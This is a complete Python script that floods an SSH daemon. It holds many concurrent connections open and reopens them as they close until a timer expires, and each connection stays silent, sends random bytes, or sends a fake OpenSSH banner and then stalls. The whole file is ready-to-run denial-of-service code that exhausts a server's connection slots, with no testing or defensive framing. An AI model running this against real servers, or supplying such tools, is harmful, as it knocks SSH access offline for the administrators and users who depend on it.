#!/usr/bin/python3
"""Floods a sshd from an address: flood.py ADDRESS FROM PORT SECONDS silent|garbage|banner CONNECTIONS

So many connections are kept, made again as they end, until the time is over: such as never speak, such as send
bytes at random, and such as greet like ssh and then say nothing; at most 1000 new ones a second. Prints a line for each
thousand.
"""
import os
import selectors
import socket
import sys
import time

WORDS = {'silent': lambda: b'', 'garbage': lambda: os.urandom(4096), 'banner': lambda: b'SSH-2.0-OpenSSH_9.2\r\n'}


def connect(address, origin, port):
    s = socket.socket()
    s.setblocking(False)
    s.bind((origin, 0))
    s.connect_ex((address, port))
    return s


def flood(address, origin, port, seconds, kind, most):
    until, made = time.monotonic() + seconds, 0
    open_ones = selectors.DefaultSelector()
    while time.monotonic() < until:
        for _ in range(min(20, most - len(open_ones.get_map()))):
            open_ones.register(connect(address, origin, port), selectors.EVENT_WRITE, 'new')
            made += 1
            if made % 1000 == 0:
                print(made, flush=True)
        time.sleep(0.02)
        for key, _ in open_ones.select(0.2):
            try:
                if key.data == 'new':
                    key.fileobj.send(WORDS[kind]())
                    open_ones.modify(key.fileobj, selectors.EVENT_READ, 'said')
                elif not key.fileobj.recv(65536):
                    raise OSError
            except OSError:
                open_ones.unregister(key.fileobj)
                key.fileobj.close()


flood(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), sys.argv[5], int(sys.argv[6]))
